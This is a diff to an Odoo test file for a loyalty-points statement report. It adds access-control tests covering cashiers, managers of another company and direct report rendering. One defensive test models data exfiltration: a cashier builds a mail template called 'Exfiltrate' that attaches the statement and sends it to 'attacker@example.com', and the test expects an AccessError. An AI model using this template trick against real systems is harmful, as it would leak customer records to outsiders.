@@ -1,8 +1,8 @@
 from lxml import html
 
 from odoo import Command
-from odoo.exceptions import UserError, ValidationError
-from odoo.tests import tagged
+from odoo.exceptions import AccessError, UserError, ValidationError
+from odoo.tests import new_test_user, tagged
 
 from .test_reports import FEB, LoyaltyPointsReportCommon
 
@@ -44,15 +44,23 @@ class TestCustomerStatement(LoyaltyPointsReportCommon):
         self.assertEqual(statement["expiring"], [{"date": self.soon.expiry_date, "points": 25}])
         self.assertEqual((statement["opening"], statement["closing"]), (110, 275))
 
-    def test_a_cashier_prints_from_the_customer_but_cannot_send(self):
-        cashier_env = self.env(
-            user=self.cashier, context={"allowed_company_ids": self.company_a.ids, "tz": "UTC"}
-        )
+    def _cashier_env(self):
         self.cashier.write(
             {"company_ids": [Command.link(self.company_a.id)], "company_id": self.company_a.id}
         )
+        return self.env(
+            user=self.cashier, context={"allowed_company_ids": self.company_a.ids, "tz": "UTC"}
+        )
+
+    def test_a_cashier_cannot_print_nor_send(self):
+        Statement = self._cashier_env()["loyalty.points.statement"].with_context(
+            active_model="res.partner", active_id=self.customer.id
+        )
+        with self.assertRaises(AccessError):
+            Statement.create({"date_from": FEB[0], "date_to": FEB[1]})
+        # the manager prints and sends from the customer
         wizard = (
-            cashier_env["loyalty.points.statement"]
+            self.manager_env["loyalty.points.statement"]
             .with_context(active_model="res.partner", active_id=self.customer.id)
             .create({"date_from": FEB[0], "date_to": FEB[1]})
         )
@@ -60,8 +68,56 @@ class TestCustomerStatement(LoyaltyPointsReportCommon):
         action = wizard.action_print()
         self.assertEqual(action["report_name"], "loyalty_points.report_customer_statement")
         self.assertEqual(action["data"], {"date_from": "2026-02-01", "date_to": "2026-02-28"})
-        with self.assertRaises(UserError):
-            wizard.action_send()
+        self.assertEqual(wizard.action_send()["res_model"], "mail.compose.message")
+
+    def test_a_manager_of_another_company_gets_no_statement(self):
+        intruder = new_test_user(
+            self.env,
+            login="lp_statement_intruder",
+            groups="base.group_user,point_of_sale.group_pos_manager",
+            company_id=self.company_b.id,
+            company_ids=[Command.set(self.company_b.ids)],
+        )
+        intruder_env = self.env(user=intruder, context={"allowed_company_ids": self.company_b.ids})
+        with self.assertRaises(AccessError):
+            intruder_env["loyalty.points.statement"].create({"account_id": self.account_a.id})
+        with self.assertRaises(AccessError):
+            self._render(intruder_env, self.account_a, {})
+
+    def test_rendering_the_statement_needs_a_pos_manager(self):
+        """The report itself checks: a cashier rendering it over RPC (or through
+        anything that renders reports) gets an AccessError."""
+        Report = self._cashier_env()["ir.actions.report"]
+        data = {"date_from": "2026-02-01", "date_to": "2026-02-28"}
+        for render in (Report._render_qweb_html, Report._render_qweb_pdf):
+            with self.assertRaises(AccessError):
+                render("loyalty_points.action_report_customer_statement", self.account_a.ids, data)
+        with self.assertRaises(AccessError):
+            self._cashier_env()[
+                "report.loyalty_points.report_customer_statement"
+            ]._get_report_values(self.account_a.ids, data)
+        tree = self._render(self.manager_env, self.account_a, data)
+        self.assertEqual(self._cells(tree, "o_statement_closing")[0][-1], "275.00")
+
+    def test_a_cashier_cannot_mail_the_statement_anywhere(self):
+        """A cashier with Contact Creation (a new user's default) makes a mail
+        template of their own with the statement attached and any address."""
+        self.cashier.groups_id = [Command.link(self.env.ref("base.group_partner_manager").id)]
+        cashier_env = self._cashier_env()
+        template = cashier_env["mail.template"].create(
+            {
+                "name": "Exfiltrate",
+                "model_id": cashier_env["ir.model"]._get_id("loyalty.points.account"),
+                "subject": "statement",
+                "email_to": "attacker@example.com",
+                "report_template_ids": [
+                    Command.link(self.env.ref("loyalty_points.action_report_customer_statement").id)
+                ],
+            }
+        )
+        with self.assertRaises(AccessError):
+            template.send_mail(self.account_a.id)
+        self.assertFalse(self.env["mail.mail"].search([("email_to", "=", "attacker@example.com")]))
 
     def test_a_customer_without_account_gets_a_clear_error(self):
         stranger = self.env["res.partner"].create({"name": "No Account"})
